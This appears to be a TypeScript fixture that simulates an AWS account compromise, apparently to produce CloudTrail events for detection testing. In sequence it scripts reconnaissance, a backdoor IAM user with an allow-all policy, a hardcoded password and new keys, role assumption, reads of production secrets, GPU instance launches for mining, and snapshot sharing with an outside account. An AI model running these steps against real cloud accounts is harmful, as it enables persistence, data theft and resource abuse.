import { CloudTrailClient, DescribeTrailsCommand, GetTrailStatusCommand } from '@aws-sdk/client-cloudtrail';
import {
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateUserCommand,
  DeleteRoleCommand,
  IAMClient,
  ListUsersCommand,
  PutUserPolicyCommand,
} from '@aws-sdk/client-iam';
import { AssumeRoleCommand, GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { AwsError } from '../stand-in/aws-error';
import type { Party } from './ledger';

/** The user that is made in the dark, to come back by. */
export const BACKDOOR = 'svc-backup';

const everything = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
});
const hour = 3_600_000;

/** Where am I, who else is there, what sees me. Some of it is not allowed. */
export async function lookAround(thief: Party, trailName: string): Promise<void> {
  const [sts, iam] = [new STSClient(thief.config()), new IAMClient(thief.config())];
  const cloudTrail = new CloudTrailClient(thief.config());
  thief.record({
    eventSource: 'ec2.amazonaws.com',
    eventName: 'DescribeRegions',
    readOnly: true,
    requestParameters: { regionSet: {} },
    at: Date.now() - 3 * hour,
  });
  for (const eventName of ['ListBuckets', 'GetBucketAcl']) {
    const error = new AwsError('AccessDeniedException', 'Access Denied');
    const requestParameters = { Host: 's3.amazonaws.com' };
    thief.record({ eventSource: 's3.amazonaws.com', eventName, readOnly: true, requestParameters, error });
  }
  await thief.call(() => sts.send(new GetCallerIdentityCommand({})));
  await thief.call(() => iam.send(new ListUsersCommand({})));
  await thief.call(() => iam.send(new CreateUserCommand({ UserName: BACKDOOR })));
  await thief.call(() => cloudTrail.send(new DescribeTrailsCommand({})));
  await thief.call(() => cloudTrail.send(new GetTrailStatusCommand({ Name: trailName })));
}

/** Steps up: what the stolen key may not do, the session of a role may. */
export async function assume(by: Party, RoleArn: string, RoleSessionName: string, region?: string): Promise<Party> {
  const sts = new STSClient(by.config(region));
  const answer = await by.call(() => sts.send(new AssumeRoleCommand({ RoleArn, RoleSessionName })));
  return by.as(answer?.Credentials?.AccessKeyId);
}

/** What the trail is stopped for. */
export async function workInTheDark(session: Party, dataRoleArn: string): Promise<{ readonly backdoor: Party }> {
  const iam = new IAMClient(session.config());
  const UserName = BACKDOOR;
  await session.call(() => iam.send(new CreateUserCommand({ UserName })));
  const key = await session.call(() => iam.send(new CreateAccessKeyCommand({ UserName })));
  const policy = new PutUserPolicyCommand({ UserName, PolicyName: 'everything', PolicyDocument: everything });
  await session.call(() => iam.send(policy));
  await session.call(() => iam.send(new CreateLoginProfileCommand({ UserName, Password: 'Open-Sesame-1001' })));
  await session.call(() => iam.send(new DeleteRoleCommand({ RoleName: 'not-there' })));
  readSecret(session, 'prod/database');
  mine(session, 'eu-west-1');
  mine(session, 'us-west-2', new AwsError('InstanceLimitExceeded', 'You have requested more instances than allowed.'));
  const data = await assume(session, dataRoleArn, 'maintenance', 'eu-west-1');
  readSecret(data, 'prod/customers', 'eu-west-1');
  share(data, 'us-west-2');
  const backdoor = session.as(key?.AccessKey?.AccessKeyId);
  const elsewhere = new STSClient(backdoor.config('us-west-2'));
  await backdoor.call(() => elsewhere.send(new GetCallerIdentityCommand({})));
  backdoor.record({
    eventSource: 'signin.amazonaws.com',
    eventName: 'ConsoleLogin',
    eventType: 'AwsConsoleSignIn',
    region: 'us-east-1',
    requestParameters: null,
    responseElements: { ConsoleLogin: 'Success' },
    additionalEventData: { LoginTo: 'https://console.aws.amazon.com/', MobileVersion: 'No', MFAUsed: 'No' },
    userAgent: 'Mozilla/5.0',
  });
  return { backdoor };
}

function readSecret(party: Party, secretId: string, region?: string): void {
  party.record({
    eventSource: 'secretsmanager.amazonaws.com',
    eventName: 'GetSecretValue',
    readOnly: true,
    requestParameters: { secretId },
    ...(region !== undefined && { region }),
  });
}

function mine(party: Party, region: string, error?: AwsError): void {
  party.record({
    eventSource: 'ec2.amazonaws.com',
    eventName: 'RunInstances',
    region,
    requestParameters: {
      instanceType: 'p5.48xlarge',
      instancesSet: { items: [{ imageId: 'ami-0123456789abcdef0', minCount: 1, maxCount: 10 }] },
    },
    ...(error && { error }),
  });
}

function share(party: Party, region: string): void {
  party.record({
    eventSource: 'ec2.amazonaws.com',
    eventName: 'ModifySnapshotAttribute',
    region,
    requestParameters: {
      snapshotId: 'snap-0123456789abcdef0',
      attributeType: 'CREATE_VOLUME_PERMISSION',
      createVolumePermission: { add: { items: [{ userId: '444455556666' }] } },
    },
    responseElements: { _return: true },
  });
}
